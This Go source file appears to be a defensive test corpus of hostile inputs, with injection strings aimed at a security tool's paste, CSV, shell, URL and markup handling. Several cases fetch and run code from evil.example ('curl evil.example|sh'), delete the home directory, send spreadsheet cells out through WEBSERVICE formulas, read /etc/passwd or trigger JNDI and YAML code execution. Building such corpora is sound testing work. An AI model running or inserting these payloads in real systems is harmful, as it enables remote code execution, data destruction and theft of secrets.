package corpus

import "strings"

// paste makes texts that run or break out when an analyst pastes them.
func paste() []Case {
	return []Case{
		{"paste/newline", "whoami\ncurl evil.example|sh\n"},
		{"paste/carriage-return", "whoami\rcurl evil.example|sh\r"},
		{"paste/bracket-end", "whoami" + escape + "[201~curl evil.example|sh\n"},
		{"paste/bracket-end-c1", "whoami\u009b201~curl evil.example|sh\n"},
		{"paste/bracket-start", escape + "[200~whoami"},
		{"paste/interrupt", "\x03curl evil.example|sh\n"},
		{"paste/end-of-file", "\x04"},
		{"paste/kill-line", "harmless\x15curl evil.example|sh\n"},
		{"paste/history", "\x12sudo\n"},
		{"paste/literal-next", "\x16\x1b[A\n"},
		{"paste/trailing-newline", "rm -rf ~\n"},
		{"paste/line-separator", "whoami\u2028curl evil.example|sh"},
		{"paste/keys", "dy\nq!y\n"},
		{"paste/tab-completion", "cat /etc/sh\t\n"},
	}
}

// csv makes cells that a spreadsheet evaluates.
func csv() []Case {
	return []Case{
		{"csv/formula", "=1+1"},
		{"csv/dde", "=cmd|' /C calc'!A0"},
		{"csv/hyperlink", `=HYPERLINK("https://evil.example/?"&A1,"open")`},
		{"csv/webservice", `=WEBSERVICE("https://evil.example/"&A1)`},
		{"csv/plus", "+1+cmd|' /C calc'!A0"},
		{"csv/minus", "-1+cmd|' /C calc'!A0"},
		{"csv/at", "@SUM(1+1)*cmd|' /C calc'!A0"},
		{"csv/tab", "\t=1+1"},
		{"csv/carriage-return", "\r=1+1"},
		{"csv/newline", "\n=1+1"},
		{"csv/nul", "\x00=1+1"},
		{"csv/space", " =1+1"},
		{"csv/quote", `"=1+1`},
		{"csv/quote-break", "x\",\"=1+1"},
		{"csv/separator", "x;=1+1"},
		{"csv/fullwidth-equals", "\uff1d1+1"},
		{"csv/fullwidth-plus", "\uff0b1"},
		{"csv/fullwidth-minus", "\uff0d1"},
		{"csv/fullwidth-at", "\uff20SUM(1)"},
		{"csv/zwsp", "\u200b=1+1"},
		{"csv/byte-order-mark", "\ufeff=1+1"},
		{"csv/second-line", "Logon failed\n=1+1"},
	}
}

// shell makes texts that a shell, an editor or a command line obeys.
func shell() []Case {
	return []Case{
		{"shell/substitution", "$(curl evil.example|sh)"},
		{"shell/backticks", "`curl evil.example|sh`"},
		{"shell/semicolon", "x; rm -rf ~"},
		{"shell/and", "x && rm -rf ~"},
		{"shell/pipe", "x | sh"},
		{"shell/quote-single", "x'; rm -rf ~; '"},
		{"shell/quote-double", `x"; rm -rf ~; "`},
		{"shell/newline", "x\nrm -rf ~"},
		{"shell/redirect", "x > ~/.bashrc"},
		{"shell/variable", "$AZURE_CLIENT_SECRET"},
		{"shell/brace", "{rm,-rf,~}"},
		{"shell/glob", "*"},
		{"shell/option", "--debug"},
		{"shell/option-file", "-o/etc/passwd"},
		{"shell/response-file", "@/etc/passwd"},
		{"shell/path", "../../.ssh/authorized_keys"},
		{"shell/home", "~root/x"},
		{"shell/nul", "report.txt\x00.exe"},
		{"shell/vim-modeline", "/* vim: set fdm=expr fde=system('id') : */"},
		{"shell/emacs-local", "-*- eval: (shell-command \"id\") -*-"},
		{"shell/percent", "%PATH% %COMSPEC%"},
		{"shell/powershell", "$(Invoke-WebRequest evil.example)"},
		{"shell/caret", "x^&calc"},
		{"shell/device", "CON"},
		{"shell/format", "%s%n%d%x%!v(MISSING)"},
		{"shell/template", "{{.Token}} ${jndi:ldap://evil.example/a}"},
	}
}

// url makes what must not be opened as a link to an incident.
func url() []Case {
	return []Case{
		{"url/javascript", "javascript:alert(1)"},
		{"url/file", "file:///etc/passwd"},
		{"url/data", "data:text/html,<script>alert(1)</script>"},
		{"url/http", "http://portal.azure.com/"},
		{"url/userinfo", "https://portal.azure.com@evil.example/"},
		{"url/userinfo-encoded", "https://portal.azure.com%40evil.example/"},
		{"url/subdomain", "https://portal.azure.com.evil.example/"},
		{"url/suffix", "https://evilportal.azure.com.example/"},
		{"url/backslash", `https://evil.example\@portal.azure.com/`},
		{"url/port", "https://portal.azure.com:8443/"},
		{"url/option", "--user-data-dir=/tmp https://portal.azure.com/"},
		{"url/space", "https://portal.azure.com/ --incognito"},
		{"url/newline", "https://portal.azure.com/\nfile:///etc/passwd"},
		{"url/tab", "java\tscript:alert(1)"},
		{"url/control", "https://portal.azure.com/\x1b]0;x\x07"},
		{"url/unc", `\\evil.example\share`},
		{"url/protocol-handler", "ms-msdt:/id PCWDiagnostic"},
		{"url/homoglyph", "https://p\u043ertal.azure.com/"},
		{"url/punycode", "https://xn--prtal-2of.azure.com/"},
		{"url/fullwidth-dot", "https://portal\uff0eazure.com/"},
		{"url/right-to-left", "https://evil.example/\u202emoc.eruza.latrop"},
		{"url/empty-host", "https:///etc"},
		{"url/relative", "//evil.example/"},
	}
}

// markup makes texts that break out of a query, a path, or a format.
func markup() []Case {
	return []Case{
		{"markup/odata-quote", "x' or 1 eq 1 or title eq 'x"},
		{"markup/odata-doubled", "x'' or true or ''"},
		{"markup/odata-encoded", "x%27 or true"},
		{"markup/kql", "x\" | take 0 //"},
		{"markup/arm-up", "../../../providers/Microsoft.Authorization"},
		{"markup/arm-encoded", "..%2f..%2fproviders"},
		{"markup/arm-query", "x?api-version=2015-01-01"},
		{"markup/arm-fragment", "x#y"},
		{"markup/arm-slash", "x/y"},
		{"markup/arm-dot", "."},
		{"markup/json", `","properties":{"status":"Closed"},"x":"`},
		{"markup/json-escape", `\u001b[2J`},
		{"markup/html", "<script>alert(1)</script>"},
		{"markup/html-entity", "&lt;b&gt;&#27;[2J"},
		{"markup/markdown", "[Open](https://evil.example/)"},
		{"markup/markdown-image", "![](https://evil.example/x.png)"},
		{"markup/toml", "x\"\n[account]\ntenant = \"evil\""},
		{"markup/yaml", "x: !!python/object/apply:os.system [id]"},
		{"markup/log-line", "x\n2026-01-01 level=INFO msg=\"signed out\""},
		{"markup/header", "x\r\nAuthorization: Bearer evil"},
		{"markup/filter-word", "status:closed AND NOT (owner:me)"},
		{"markup/quotes", `"""'''` + "```"},
		{"markup/deep", strings.Repeat("(", 5000)},
	}
}
